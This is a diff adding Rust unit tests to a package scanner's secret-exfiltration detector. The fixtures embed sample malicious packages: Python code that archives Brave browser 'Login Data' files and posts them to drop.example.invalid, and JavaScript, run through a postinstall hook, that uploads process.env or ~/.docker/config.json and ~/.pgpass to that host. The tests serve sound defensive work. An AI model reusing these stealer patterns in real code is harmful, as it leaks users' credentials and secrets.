@@ -1888,6 +1888,80 @@ mod tests {
     }
 
     #[test]
+    fn a_credential_folder_listed_by_one_module_and_archived_out_by_another() {
+        let exfil = |files: &[(&str, &str)]| {
+            let a = analyze_package(&package("demo", files));
+            a.behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.path.clone())
+                .collect::<Vec<_>>()
+        };
+        // One module lists a browser profile's files; another zips what it is handed
+        // into memory and posts the archive; the package's entry joins them.
+        let init = "from . import finder, shipper\nshipper.push(finder.keys())\n";
+        let finder = "import glob, os\ndef keys():\n    found = []\n    for d in glob.glob(os.path.expanduser('~/.config/BraveSoftware/Brave-Browser/*')):\n        found.append(os.path.join(d, 'Login Data'))\n    return found\n";
+        let shipper = "import io, zipfile, requests\ndef push(paths):\n    mem = io.BytesIO()\n    with zipfile.ZipFile(mem, 'w') as z:\n        for p in paths:\n            z.write(p)\n    requests.post('https://drop.example.invalid/z', data=mem.getvalue())\n";
+        let found = exfil(&[
+            ("demo/__init__.py", init),
+            ("demo/finder.py", finder),
+            ("demo/shipper.py", shipper),
+        ]);
+        assert!(
+            found.iter().any(|p| p.ends_with("demo/__init__.py")),
+            "{found:?}"
+        );
+        // The twin: the listed folder is the package's own templates.
+        let templates = "import glob, os\ndef keys():\n    return glob.glob(os.path.join(os.path.dirname(__file__), 'templates', '*'))\n";
+        let found = exfil(&[
+            ("demo/__init__.py", init),
+            ("demo/finder.py", templates),
+            ("demo/shipper.py", shipper),
+        ]);
+        assert!(found.is_empty(), "{found:?}");
+    }
+
+    #[test]
+    fn what_one_function_gathers_handed_to_another_that_sends_it_is_exfiltration() {
+        let exfil = |files: &[(&str, &str)]| {
+            let mut all = vec![(
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node main.js"}}"#,
+            )];
+            all.extend_from_slice(files);
+            let a = analyze_package(&package("demo", &all));
+            a.behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.path.clone())
+                .collect::<Vec<_>>()
+        };
+        // A copy of the whole environment returned by one module, handed to the upload
+        // function of another.
+        let main = "const { dump } = require('./lib/vars');\nconst upload = require('./lib/upload');\nupload(dump());\n";
+        let vars = "exports.dump = function () {\n  const out = {};\n  for (const [k, v] of Object.entries(process.env)) if (v) out[k] = v;\n  return { ...process.env };\n};\n";
+        let upload = "const https = require('https');\nmodule.exports = function upload(data) {\n  const r = https.request('https://drop.example.invalid/v', { method: 'POST' });\n  r.end(JSON.stringify(data));\n};\n";
+        let found = exfil(&[
+            ("main.js", main),
+            ("lib/vars.js", vars),
+            ("lib/upload.js", upload),
+        ]);
+        assert!(found.iter().any(|p| p.ends_with("/main.js")), "{found:?}");
+        // Both functions in one file, the gathering one written below the call.
+        let one = "const fs = require('fs'), os = require('os'), https = require('https');\nfunction ship(data) {\n  https.request({ host: 'drop.example.invalid', method: 'POST' }).end(JSON.stringify(data));\n}\nship(grab());\nfunction grab() {\n  const h = os.homedir();\n  return [fs.readFileSync(h + '/.docker/config.json', 'utf8'), fs.readFileSync(h + '/.pgpass', 'utf8')];\n}\n";
+        let found = exfil(&[("main.js", one)]);
+        assert!(found.iter().any(|p| p.ends_with("/main.js")), "{found:?}");
+        // The twin: the module hands on the package's own settings, not the environment.
+        let settings = "exports.dump = function () {\n  return { level: process.env.LOG_LEVEL || 'info', color: true };\n};\n";
+        let found = exfil(&[
+            ("main.js", main),
+            ("lib/vars.js", settings),
+            ("lib/upload.js", upload),
+        ]);
+        assert!(found.is_empty(), "{found:?}");
+    }
+
+    #[test]
     fn a_secret_returned_by_one_file_and_sent_by_another_is_exfiltration() {
         let exfil = |a: &Analysis| {
             a.behaviours
